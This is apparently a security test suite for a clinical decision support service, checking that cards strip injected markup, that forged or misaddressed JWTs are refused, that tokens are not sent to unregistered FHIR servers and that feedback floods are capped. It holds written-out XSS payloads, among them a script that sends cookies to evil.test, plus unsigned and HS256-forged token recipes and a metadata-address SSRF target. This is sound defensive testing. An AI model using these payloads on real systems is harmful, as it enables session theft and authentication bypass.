import { generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import Sqlite from 'better-sqlite3';
import { decodeProtectedHeader, exportJWK, generateKeyPair, SignJWT } from 'jose';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Card, cdsResponseSchema } from '../../../server/cds/card-schema.ts';
import {
  type CdsClient,
  hookRequest,
  prefetched,
  searchset,
  startCdsClient,
  templatesOf,
} from '../../conformance/cds-client.ts';
import { type FakeEhr, startFakeEhr } from '../../fhir-server/fake-ehr.ts';
import { PATIENT_ID, RESOURCES } from '../../integration/server/patient.ts';
import { failureOf, post, startTestService, type TestService } from '../../integration/server/start.ts';

/** Abuse cases 20, 26, 27 and 38 (service.md section 10): cards with script, tokens of clients, feedback floods. */

let service: TestService;
let client: CdsClient;
let thief: FakeEhr;
let templates: Record<string, string>;
beforeEach(async () => {
  [service, client, thief] = await Promise.all([startTestService(), startCdsClient(), startFakeEhr(RESOURCES)]);
  templates = await templatesOf(service);
});
afterEach(async () => {
  await service.close();
  await client.close();
  await thief.close();
});

const SERVICE = 'hh-doc-completeness';
/** A record without a document: then there is something to say. */
const full = (more: object = {}) =>
  hookRequest(PATIENT_ID, {
    prefetch: { ...prefetched(templates, RESOURCES, PATIENT_ID), documents: null },
    ...more,
  });

describe('case 20: script, links and images in what a record says', () => {
  const EVIL = [
    '<script>fetch("https://evil.test/"+document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '![beacon](https://evil.test/b.gif)',
    '[walker](java\tscript:alert(1))',
    '<a href="javascript:alert(1)">walker</a>',
    'https://evil.test/phish www.evil.test',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ];
  const note = (text: string) => ({
    resourceType: 'DocumentReference',
    id: `note-${randomUUID()}`,
    status: 'current',
    type: { coding: [{ system: 'http://loinc.org', code: '34117-2', display: EVIL[0] }], text: EVIL[1] },
    subject: { reference: `Patient/${PATIENT_ID}` },
    date: '2026-02-04',
    author: [{ reference: 'Practitioner/md', display: EVIL[1] }],
    content: [
      { attachment: { contentType: 'text/plain', title: EVIL[2], data: Buffer.from(text).toString('base64') } },
    ],
    text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${EVIL.join('')}</div>` },
  });
  const md = { resourceType: 'Practitioner', id: 'md', name: [{ text: EVIL[0], suffix: ['MD'] }] };

  it('no card holds markup, an address or an image of theirs, for any role', async () => {
    const notes = EVIL.map((evil) =>
      note(
        `Face to face encounter. Homebound: needs a walker ${evil} and leaves home with taxing effort ${evil}. Heart failure ${evil}.`,
      ),
    );
    const display = (one: (typeof RESOURCES)[number]) =>
      one.resourceType === 'Condition' ? { ...one, code: { ...(one.code as object), text: EVIL.join(' ') } } : one;
    const body = full({
      prefetch: {
        ...prefetched(templates, RESOURCES.map(display), PATIENT_ID),
        documents: searchset([...notes, md], { total: notes.length }),
      },
    });
    const cards: Card[] = [];
    for (const role of ['clinician', 'coder', 'qa', 'manager']) {
      await client.register(service, { role, groupingPreview: role !== 'clinician' });
      for (const id of ['hh-coding-hints', SERVICE, ...(role === 'clinician' ? [] : ['hh-pdgm-preview'])]) {
        cards.push(...(await client.cards(service, id, body)));
      }
    }
    // A drug's name is shown as the record writes it.
    await client.register(service, { role: 'coder' });
    for (const evil of EVIL) {
      const drug = {
        resourceType: 'MedicationRequest',
        id: 'rx-evil',
        status: 'active',
        intent: 'order',
        subject: { reference: `Patient/${PATIENT_ID}` },
        medicationCodeableConcept: { text: `Levothyroxine ${evil}` },
      };
      const prefetch = { ...(body.prefetch as object), medications: searchset([drug]) };
      const hints = await client.cards(service, 'hh-coding-hints', { ...body, prefetch });
      const shown = hints.find(({ detail }) => detail?.includes('medication Levothyroxine '));
      expect(shown?.detail).toMatch(/medication Levothyroxine \S+/);
      cards.push(...hints);
    }
    expect(cards.length).toBeGreaterThan(10);
    for (const { summary, detail = '', links, suggestions = [] } of cards) {
      expect(`${summary}\n${detail}`).not.toMatch(/[<>]/);
      expect(detail).not.toMatch(/:\/\/|\bwww\.|!\[|\]\(|&(?!amp;|lt;|gt;)/);
      expect(links).toBeUndefined();
      expect(JSON.stringify(suggestions)).not.toMatch(/evil\.test|<script/);
    }
  });
});

describe('case 26: tokens that are not the client’s, or not for this', () => {
  const url = () => `${service.url}/cds-services/${SERVICE}`;
  const now = () => Math.floor(Date.now() / 1000);
  const attempt = async (token: string) => failureOf(await client.call(service, SERVICE, full(), token));

  it('a right token is taken, and the key set is fetched once', async () => {
    await client.register(service);
    expect(await client.cards(service, SERVICE, full())).not.toEqual([]);
    expect(await client.cards(service, SERVICE, full())).not.toEqual([]);
    expect(client.fetched()).toBe(1);
  });

  it.each<[string, (aud: string) => Record<string, unknown>]>([
    ['another audience', () => ({ aud: 'https://other.example.org/cds-services/hh-doc-completeness' })],
    ['the audience of another service', (aud) => ({ aud: aud.replace(SERVICE, 'hh-coding-hints') })],
    ['an audience that begins with ours', (aud) => ({ aud: `${aud}/` })],
    ['several audiences', (aud) => ({ aud: [aud, 'https://other.example.org'] })],
    ['no audience', () => ({ aud: undefined })],
    ['another issuer', () => ({ iss: 'https://evil.example.org' })],
    ['no issuer', () => ({ iss: undefined })],
    ['an end that is over', () => ({ iat: now() - 600, exp: now() - 301 })],
    ['no end', () => ({ exp: undefined })],
    ['an end ten minutes from now', () => ({ exp: now() + 600 })],
    ['no time of issue', () => ({ iat: undefined })],
    ['a time of issue ten minutes ago', () => ({ iat: now() - 600, exp: now() + 60 })],
    ['a time of issue ten minutes ahead', () => ({ iat: now() + 600, exp: now() + 660 })],
    ['no jti', () => ({ jti: undefined })],
    ['a jti that is no text', () => ({ jti: 7 })],
    ['a tenant that is not registered', () => ({ tenant: 'hill' })],
  ])('%s: 401', async (_name, claims) => {
    await client.register(service);
    expect(await attempt(await client.token(url(), claims(url())))).toMatchObject({ status: 401, code: 'login' });
  });

  it.each([
    ['no kid', { kid: undefined }],
    ['a kid that is not in the set', { kid: 'another' }],
    ['no typ', { typ: undefined }],
    ['another typ', { typ: 'at+jwt' }],
  ])('%s: 401', async (_name, header) => {
    await client.register(service);
    expect(await attempt(await client.token(url(), {}, header))).toMatchObject({ status: 401 });
  });

  it('a jku that is not registered is never fetched', async () => {
    await client.register(service);
    for (const jku of [`${thief.origin}/keys`, `${client.jku}/`, client.jku.replace('127.0.0.1', 'localhost')]) {
      expect(await attempt(await client.token(url(), {}, { jku }))).toMatchObject({
        status: 401,
        say: 'the token names a jku that is not registered',
      });
    }
    expect(thief.requests).toEqual([]);
    expect(client.fetched()).toBe(0);
  });

  it('none, shared secrets and a public key used as one: 401', async () => {
    const { publicKey, privateKey } = await generateKeyPair('ES384', { extractable: true });
    const jwk = { ...(await exportJWK(publicKey)), kid: 'k1' };
    await client.register(service, { jku: undefined, keys: [jwk] });
    const claims = () => ({ iss: client.iss, aud: url(), iat: now(), exp: now() + 300, jti: randomUUID() });
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const unsigned = `${part({ alg: 'none', typ: 'JWT', kid: 'k1' })}.${part(claims())}.`;
    const hmac = await new SignJWT(claims())
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT', kid: 'k1' })
      .sign(new TextEncoder().encode(JSON.stringify(jwk)));
    for (const token of [unsigned, hmac, 'x', 'a.b.c', `${hmac}.d.e`]) {
      expect(await attempt(token)).toMatchObject({ status: 401 });
    }
    const right = await new SignJWT(claims())
      .setProtectedHeader({ alg: 'ES384', typ: 'JWT', kid: 'k1' })
      .sign(privateKey);
    expect((await client.call(service, SERVICE, full(), right)).status).toBe(200);
  });

  it.each([
    ['no header', ''],
    ['a header that is no base64url', '!!!'],
    ['a header that is no JSON', '{'],
    ['a header that is null', 'null'],
    ['a header that is a list', '[]'],
  ])('%s before claims that name a registered issuer: 401, and no fault of ours', async (_name, head) => {
    await client.register(service);
    const part = (text: string) => Buffer.from(text).toString('base64url');
    const token = `${head === '!!!' ? head : part(head)}.${part(JSON.stringify({ iss: client.iss }))}.x`;
    expect(await attempt(token)).toMatchObject({ status: 401, code: 'login' });
    expect(service.log.join('')).not.toContain('"msg":"fault"');
  });

  it.each([
    ['that is no point of its curve', { kty: 'EC', crv: 'P-384', x: 'AAAA', y: 'AAAA' }],
    ['with a number for a text', { kty: 'EC', crv: 'P-384', x: 7, y: 'AAAA' }],
    ['with signs that base64url has not', { kty: 'EC', crv: 'P-384', x: '!!', y: '??' }],
  ])('a registered key %s: 401, and no fault of ours', async (_name, key) => {
    const token = await client.token(url(), {}, { jku: undefined });
    await client.register(service, { jku: undefined, keys: [{ ...key, kid: decodeProtectedHeader(token).kid }] });
    expect(await attempt(token)).toMatchObject({ status: 401, code: 'login' });
    expect(service.log.join('')).not.toContain('"msg":"fault"');
  });

  it('a registered RSA key that is too short to trust: 401, and no fault of ours', async () => {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024 });
    const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'short' };
    await client.register(service, { jku: undefined, keys: [jwk] });
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const claims = { iss: client.iss, aud: url(), iat: now(), exp: now() + 300, jti: randomUUID() };
    const signed = `${part({ alg: 'RS384', typ: 'JWT', kid: 'short' })}.${part(claims)}`;
    const token = `${signed}.${sign('RSA-SHA384', Buffer.from(signed), privateKey).toString('base64url')}`;
    expect(await attempt(token)).toMatchObject({ status: 401, code: 'login' });
    expect(service.log.join('')).not.toContain('"msg":"fault"');
  });

  it('a token counts once, of ten at the same time one, also after a restart', async () => {
    await client.register(service);
    const token = await client.token(url());
    const answers = await Promise.all(Array.from({ length: 10 }, () => client.call(service, SERVICE, full(), token)));
    expect(answers.map(({ status }) => status).sort()).toEqual([200, ...Array.from({ length: 9 }, () => 401)]);
    const again = await startTestService({ LINTEL_HOME: service.home, LINTEL_PUBLIC_URL: service.url });
    expect(
      (await post(`${again.url}/cds-services/${SERVICE}`, full(), { authorization: `Bearer ${token}` })).status,
    ).toBe(401);
    await again.close();
  });

  it('no token at all: 401; discovery is open', async () => {
    await client.register(service);
    expect(await failureOf(await post(url(), full()))).toMatchObject({ status: 401 });
    expect(await failureOf(await post(`${url()}/feedback`, { feedback: [] }))).toMatchObject({ status: 401 });
    expect((await fetch(`${service.url}/cds-services`)).status).toBe(200);
  });

  it('a key set that cannot be fetched is not asked for again and again', async () => {
    await client.register(service, { jku: `${thief.origin}/none` });
    for (let i = 0; i < 5; i++) {
      const token = await client.token(url(), {}, { jku: undefined });
      expect(await attempt(token)).toMatchObject({ status: 502, code: 'transient' });
    }
    expect(thief.requests).toHaveLength(1);
  });

  it('a registry that cannot be read lets nobody in', async () => {
    await client.register(service, { jku: 'ftp://ehr.example.org/keys' });
    expect(await failureOf(await post(url(), full()))).toMatchObject({ status: 503 });
  });
});

describe('case 27: a token for a FHIR server that is not registered', () => {
  const TOKEN = 'cds-canary-token-7c1f0a';
  const authorization = {
    access_token: TOKEN,
    token_type: 'Bearer',
    expires_in: 300,
    scope: 'user/*.rs',
    subject: 'lintel',
  };
  const bare = (fhirServer: string) => hookRequest(PATIENT_ID, { fhirServer, fhirAuthorization: authorization });

  it('goes nowhere: not to that server, and not to a registered one', async () => {
    const own = await startFakeEhr(RESOURCES);
    await service.register('ehr', own.url);
    for (const fhirServer of [
      thief.url,
      `${own.origin}/fhirevil`,
      own.url.replace('127.0.0.1', 'localhost'),
      own.url.replace('//', '//ehr@'),
      'http://169.254.169.254/fhir',
    ]) {
      const failure = await failureOf(await post(`${service.url}/cds-services/${SERVICE}`, bare(fhirServer)));
      // Whoever connects the EHR reads why in the log, and not which address it was.
      const say = expect.stringMatching(/the one that it names is not the registered one|what it names is no address/);
      expect(failure, fhirServer).toMatchObject({ status: 412, say });
    }
    expect([...thief.requests, ...own.requests]).toEqual([]);
    await own.close();
  });

  it('goes nowhere where the server is another client’s', async () => {
    await service.register('other', thief.url);
    await client.register(service, { endpoint: 'ehr' });
    expect(await failureOf(await client.call(service, SERVICE, bare(thief.url)))).toMatchObject({ status: 412 });
    await client.register(service);
    expect(await failureOf(await client.call(service, SERVICE, bare(thief.url)))).toMatchObject({ status: 412 });
    expect(thief.requests).toEqual([]);
  });

  it('stands in no log line, no failure and nowhere in the database', async () => {
    await service.register('ehr', thief.url);
    expect((await post(`${service.url}/cds-services/${SERVICE}`, bare(thief.url))).status).toBe(200);
    thief.on('GET /fhir/Patient/hh-0417', (_request, response) => void response.writeHead(401).end());
    const failed = await (await post(`${service.url}/cds-services/${SERVICE}`, bare(thief.url))).text();
    expect(thief.requests.length).toBeGreaterThan(10);
    const files = readdirSync(service.home).filter((name) => name.startsWith('lintel.db'));
    const kept = files.map((name) => readFileSync(join(service.home, name), 'latin1'));
    for (const text of [failed, ...service.log, ...kept]) expect(text).not.toContain(TOKEN);
  });
});

describe('case 38: a flood of feedback', () => {
  const item = (card: string | undefined, more: object = {}) => ({
    card,
    outcome: 'overridden',
    outcomeTimestamp: '2026-11-26T08:00:00Z',
    overrideReason: { userComment: 'Zebediah Quillfeather says no' },
    ...more,
  });
  const rows = () => {
    const database = new Sqlite(join(service.home, 'lintel.db'), { readonly: true });
    const count = database.prepare('select count(*) from feedback').pluck().get();
    database.close();
    return count;
  };
  const send = (feedback: object[]) => post(`${service.url}/cds-services/${SERVICE}/feedback`, { feedback });

  it('on cards that never went out is answered, and nothing of it is kept', async () => {
    for (let i = 0; i < 5; i++) {
      expect((await send(Array.from({ length: 100 }, () => item(randomUUID())))).status).toBe(200);
    }
    expect(rows()).toBe(0);
  });

  it('on one card is one row, whatever order it comes in; the comment is sealed', async () => {
    const answered = await post(`${service.url}/cds-services/${SERVICE}`, full());
    const { cards } = cdsResponseSchema.parse(await answered.json());
    const card = cards[0]?.uuid;
    await Promise.all(
      Array.from({ length: 30 }, (_, i) => send([item(card, { outcomeTimestamp: `2026-11-2${i % 6}T08:00:00Z` })])),
    );
    expect(rows()).toBe(1);
    const database = new Sqlite(join(service.home, 'lintel.db'), { readonly: true });
    const row = database.prepare('select * from feedback').get() as Record<string, unknown>;
    database.close();
    expect(row).toMatchObject({ card, outcome: 'overridden', outcome_time: '2026-11-25T08:00:00.000Z' });
    expect(JSON.stringify(row)).not.toContain('Quillfeather');
  });

  it('of too many items, or too long, is refused whole', async () => {
    expect((await send(Array.from({ length: 101 }, () => item(randomUUID())))).status).toBe(422);
    expect((await send([item(randomUUID(), { overrideReason: { userComment: 'x'.repeat(2_001) } })])).status).toBe(422);
    expect((await send([item(randomUUID(), { padding: 'x'.repeat(600_000) })])).status).toBe(413);
  });
});
